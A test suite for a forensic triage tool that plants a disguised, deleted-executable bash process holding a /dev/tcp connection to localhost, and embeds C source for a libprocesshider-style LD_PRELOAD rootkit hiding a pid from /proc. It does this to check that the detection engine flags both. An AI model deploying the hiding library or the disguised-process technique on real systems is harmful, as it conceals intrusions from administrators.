import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkTriage, readTriage } from '../../../workflows/examine/triage.js';
import { which } from '../../../workflows/examine/tools.js';
import { type CaptureInstance, captureInstance, INSTANCE } from './instance.js';

/**
 * Live triage for real (issue 12, item 2): the collection script reads this machine's own /proc, with a
 * planted process — a renamed copy of bash run from a temporary directory, then deleted, holding a
 * connection to a local listener — and uploads its archive with the AWS CLI to the simulated S3 as the
 * quarantine profile; the examination engine's triage reader and checks must flag the planted process.
 */
let vm: CaptureInstance;
let listener: Server;
let port: number;
let planted: ChildProcess;
let plantedDir: string;
const accepted: Socket[] = [];

beforeAll(async () => {
  vm = await captureInstance();
  listener = createServer((socket) => accepted.push(socket));
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as { port: number }).port;
  plantedDir = mkdtempSync(join(tmpdir(), 'planted-'));
  const binary = join(plantedDir, 'kworkerds');
  copyFileSync('/bin/bash', binary);
  planted = spawn(binary, ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; read -r -u 3 line`], {
    stdio: 'ignore',
  });
  // Wait for its connection, then delete its executable, as a dropper does.
  for (let i = 0; i < 100 && accepted.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
  rmSync(binary);
}, 60_000);

afterAll(async () => {
  planted?.kill('SIGKILL');
  for (const s of accepted) s.destroy();
  listener?.close();
  rmSync(plantedDir, { recursive: true, force: true });
  await vm?.stop();
});

describe('live-triage.sh on this machine', () => {
  it('uploads one archive whose SHA-256 it states, and the engine flags the planted process', async () => {
    // Act
    const run = await vm.runTriage();

    // Assess: the upload
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const [stored] = vm.org.world.buckets.get(vm.evidenceBucket)!.objects.get(run.key) ?? [];
    expect(stored!.sha256).toBe(run.result!.sha256);
    expect(stored!.uploadedBy).toBe(
      `arn:aws:sts::333333333333:assumed-role/ForensicsBot-Quarantine/${INSTANCE}`,
    );
    expect(stored!.kmsKeyArn).toBe(vm.kmsKeyId);

    // Assess: what the engine reads from it
    const archive = join(vm.dir, 'triage.tar');
    writeFileSync(archive, stored!.body);
    const triage = readTriage(archive);
    expect(triage.meta).toMatchObject({ instanceId: INSTANCE });
    const mine = triage.processes.find((p) => p.pid === planted.pid)!;
    expect(mine).toMatchObject({ comm: 'kworkerds', exeDeleted: true, exe: join(plantedDir, 'kworkerds') });
    expect(triage.sockets).toContainEqual(
      expect.objectContaining({
        proto: 'tcp',
        remote: `127.0.0.1:${port}`,
        state: 'ESTABLISHED',
        pid: planted.pid,
      }),
    );
    const findings = checkTriage(triage, []);
    const flagged = findings.find((f) => f.title.includes(`pid ${planted.pid}`))!;
    expect(flagged.severity).toBe('critical');
    expect(flagged.title).toMatch(/its executable was deleted; runs from a temporary or hidden directory/);
    expect(flagged.evidence).toContain(`127.0.0.1:${port}`);
    expect(findings.some((f) => f.source === 'triage:crontabs' && f.path === '/etc/cron.d/planted')).toBe(
      true,
    );
  }, 60_000);

  it('writes the attacker’s text as escaped JSON, whatever the process calls itself', async () => {
    // Prepare: a process whose command line carries quotes, backslashes, a newline and Slack markup
    const hostile = spawn('/bin/sleep', ['30'], { argv0: 'x"y\\z\n<!channel> *bold*', stdio: 'ignore' });
    await new Promise((r) => setTimeout(r, 200));

    // Act
    const run = await vm.runTriage();
    hostile.kill('SIGKILL');

    // Assess: valid JSON, the text kept as text
    expect(run.code).toBe(0);
    const [stored] = vm.org.world.buckets.get(vm.evidenceBucket)!.objects.get(run.key) ?? [];
    const archive = join(vm.dir, 'hostile.tar');
    writeFileSync(archive, stored!.body);
    const p = readTriage(archive).processes.find((x) => x.pid === hostile.pid)!;
    expect(p.cmdline).toBe('x"y\\z\n<!channel> *bold* 30');
  }, 60_000);
});

/**
 * A userland rootkit in the manner of libprocesshider (what the compromised web server's /etc/ld.so.preload
 * loads): readdir and readdir64 skip one pid, so listings of /proc miss it, in the triage's own bash and
 * tools too. Preloaded here through LD_PRELOAD for the script only (never /etc/ld.so.preload).
 */
const HIDE_PID_C = `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
static const char *hidden(void) { return getenv("FORENSICS_TEST_HIDE_PID"); }
struct dirent *readdir(DIR *d) {
  static struct dirent *(*next)(DIR *);
  if (!next) next = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  const char *h = hidden();
  while ((e = next(d)) && h && strcmp(e->d_name, h) == 0) {}
  return e;
}
struct dirent64 *readdir64(DIR *d) {
  static struct dirent64 *(*next)(DIR *);
  if (!next) next = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *e;
  const char *h = hidden();
  while ((e = next(d)) && h && strcmp(e->d_name, h) == 0) {}
  return e;
}
`;

describe.skipIf(!which('gcc'))('live-triage.sh against a process-hiding preload library', () => {
  it('finds the process listings of /proc miss, by looking its pid up, and the engine flags it hidden', async () => {
    // Prepare: the library, and a process it hides
    const dir = mkdtempSync(join(tmpdir(), 'hider-'));
    writeFileSync(join(dir, 'hide.c'), HIDE_PID_C);
    execFileSync('gcc', ['-shared', '-fPIC', '-O2', '-o', join(dir, 'hide.so'), join(dir, 'hide.c'), '-ldl']);
    const hiddenProcess = spawn('/bin/sleep', ['30'], { stdio: 'ignore' });
    const pid = String(hiddenProcess.pid);
    try {
      // the library works: a listing through it misses the pid
      const listed = execFileSync('bash', ['-c', 'echo /proc/[0-9]*'], {
        env: { ...process.env, LD_PRELOAD: join(dir, 'hide.so'), FORENSICS_TEST_HIDE_PID: pid },
      }).toString();
      expect(listed.split(' ')).not.toContain(`/proc/${pid}`);

      // Act
      const run = await vm.runTriage({}, { LD_PRELOAD: join(dir, 'hide.so'), FORENSICS_TEST_HIDE_PID: pid });

      // Assess
      expect(run.code).toBe(0);
      const [stored] = vm.org.world.buckets.get(vm.evidenceBucket)!.objects.get(run.key) ?? [];
      const archive = join(dir, 'triage.tar');
      writeFileSync(archive, stored!.body);
      const triage = readTriage(archive);
      expect(triage.processes.filter((p) => p.hidden).map((p) => p.pid)).toEqual([Number(pid)]);
      expect(triage.processes.find((p) => p.pid === Number(pid))).toMatchObject({ comm: 'sleep' });
      // the planted process of the other tests is listed, not hidden
      expect(triage.processes.find((p) => p.pid === planted.pid)?.hidden).toBeUndefined();
      const flagged = checkTriage(triage, []).find((f) => f.title.includes(`pid ${pid}`))!;
      expect(flagged.severity).toBe('critical');
      expect(flagged.title).toMatch(/hidden from listings of \/proc/);
    } finally {
      hiddenProcess.kill('SIGKILL');
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});
